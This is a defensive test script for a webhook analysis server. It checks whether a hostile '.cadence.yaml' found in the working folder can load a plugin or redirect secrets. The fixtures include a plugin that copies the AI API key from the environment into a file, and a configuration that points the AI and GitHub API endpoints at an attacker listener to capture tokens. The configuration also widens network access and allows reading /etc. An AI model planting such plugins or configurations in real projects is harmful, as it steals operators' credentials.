// Runs inside a network namespace that has only loopback (see ../found-configuration.test.ts): the
// real `cadence webhook`, started without --config in a folder whose `.cadence.yaml` names a plugin
// of that folder and points the AI provider and the GitHub API at a listener standing for an
// attacker. Prints what happened as one JSON line: which markers the plugin wrote (code that ran),
// which requests reached the attacker carrying a secret, and how the jobs ended.
import { sign } from '@octokit/webhooks-methods';
import { mkdir, readdir, writeFile } from 'node:fs/promises';
import { networkInterfaces } from 'node:os';
import path from 'node:path';
import { eventually, makeTempDir, startCadenceServer, startHttpServer, waitForJob } from '@cadence-detect/test-support';
import { githubPushPayload, SECRET, serveRepositories } from '../../server/fixtures.js';

export interface FoundConfigurationReport {
  readonly refused?: string;
  readonly markers: string[];
  /** Requests to the attacker that carried the AI key or the GitHub token, as `METHOD path`. */
  readonly leaked: string[];
  readonly attackerRequests: number;
  readonly pushJob: string;
  readonly websiteJob: string;
  /** The answer to analysing /etc, which the found file tried to allow. */
  readonly localPathStatus: number;
  readonly warned: boolean;
}

export const AI_KEY = 'sk-user-own-key-0123456789abcdef';
export const GITHUB_TOKEN = 'ghp_user0own0token0123456789abcdef';

const interfaces = Object.keys(networkInterfaces());
if (interfaces.some((name) => name !== 'lo')) {
  console.log(JSON.stringify({ refused: `not isolated: interfaces ${interfaces.join(', ')}` }));
  process.exit(2);
}

const work = await makeTempDir('cadence-found-config-');
const markers = path.join(work.path, 'markers');
await mkdir(markers);
const requests: { method: string; path: string; headers: string }[] = [];
const attacker = await startHttpServer((request, response) => {
  requests.push({ method: request.method ?? '', path: request.url ?? '', headers: JSON.stringify(request.headers) });
  request.resume();
  response.writeHead(500, { 'content-type': 'application/json' }).end('{}');
});
const page = await startHttpServer((_request, response) => {
  const prose =
    'The harbour smelled of diesel and rain the morning we left. My uncle counted the ropes twice, swore at the gulls, then laughed at himself. '.repeat(
      30,
    );
  response
    .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
    .end(
      `<!doctype html><html><head><title>Leaving</title></head><body><article><h1>Leaving</h1><p>${prose}</p></article></body></html>`,
    );
});
const git = await serveRepositories(work.path);

const deployment = path.join(work.path, 'deployment');
await mkdir(path.join(deployment, 'evil-plugin'), { recursive: true });
await writeFile(
  path.join(deployment, 'evil-plugin', 'package.json'),
  JSON.stringify({
    name: 'evil-plugin',
    version: '1.0.0',
    type: 'module',
    main: 'index.js',
    peerDependencies: { '@cadence-detect/plugin-sdk': '^2.0.0' },
  }),
);
await writeFile(
  path.join(deployment, 'evil-plugin', 'index.js'),
  `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(path.join(markers, 'evil-plugin'))}, String(process.env.CADENCE_AI_KEY));\nexport default { name: 'evil-plugin', apply() {} };\n`,
);
await writeFile(
  path.join(deployment, '.cadence.yaml'),
  [
    'plugins: [./evil-plugin]',
    `ai: { enabled: true, baseUrl: "${attacker.url('/v1')}" }`,
    `forges: { github: { api_url: "${attacker.url('/api')}" } }`,
    'security: { allow_local_paths: true, allowed_networks: ["0.0.0.0/0"] }',
    'thresholds: { suspicious_additions: 4242 }',
  ].join('\n'),
);

const server = await startCadenceServer({
  cwd: deployment,
  // The operator's own choices: the secrets, and loopback allowed for the test's targets.
  env: {
    CADENCE_AI_KEY: AI_KEY,
    CADENCE_GITHUB_TOKEN: GITHUB_TOKEN,
    CADENCE_SECURITY_ALLOWED_NETWORKS: '127.0.0.0/8',
    CADENCE_QUEUE_BACKEND: 'memory',
  },
});
let report: FoundConfigurationReport;
try {
  // A signed one-commit push: the squash look-up asks the GitHub API with the token.
  const body = JSON.stringify(githubPushPayload(git.daemon.url('acme/human.git'), git.hashes[8]!, git.hashes[9]!));
  const pushed = await server.json<{ id: string }>('/webhooks/github', {
    method: 'POST',
    headers: {
      'x-github-event': 'push',
      'x-github-delivery': 'found-config-1',
      'x-hub-signature-256': await sign(SECRET, body),
      'content-type': 'application/json',
    },
    body,
  });
  const push = await waitForJob<{ status: string }>(server, pushed.body.id, 60_000);
  const submitted = await server.json<{ id: string }>('/api/analyze/website', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ url: page.url('/post') }),
  });
  const website = await waitForJob<{ status: string }>(server, submitted.body.id, 60_000);
  const local = await server.request('/api/analyze/repository', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ url: '/etc' }),
  });
  // Reporters may still be talking to a forge after the job's record is final: until the push's
  // final commit status has been attempted (and recorded), wherever it went.
  await eventually(async () => {
    const { body } = await server.json<{ reports?: { state: string }[] }>(`/jobs/${pushed.body.id}`);
    return (body.reports ?? []).some((r) => r.state !== 'pending');
  }, 'the push\u2019s final commit status attempted');
  report = {
    markers: (await readdir(markers)).sort(),
    leaked: requests
      .filter((r) => r.headers.includes(AI_KEY) || r.headers.includes(GITHUB_TOKEN))
      .map((r) => `${r.method} ${r.path}`),
    attackerRequests: requests.length,
    pushJob: push.status,
    websiteJob: website.status,
    localPathStatus: local.status,
    warned: server.logs.some(
      (l) => l.level === 'warn' && /Ignored plugins, ai, forges, security in .*\.cadence\.yaml/.test(String(l.message)),
    ),
  };
} finally {
  await server.stop();
  await Promise.all([attacker.close(), page.close(), git.close()]);
  await work.remove();
}
console.log(JSON.stringify(report));
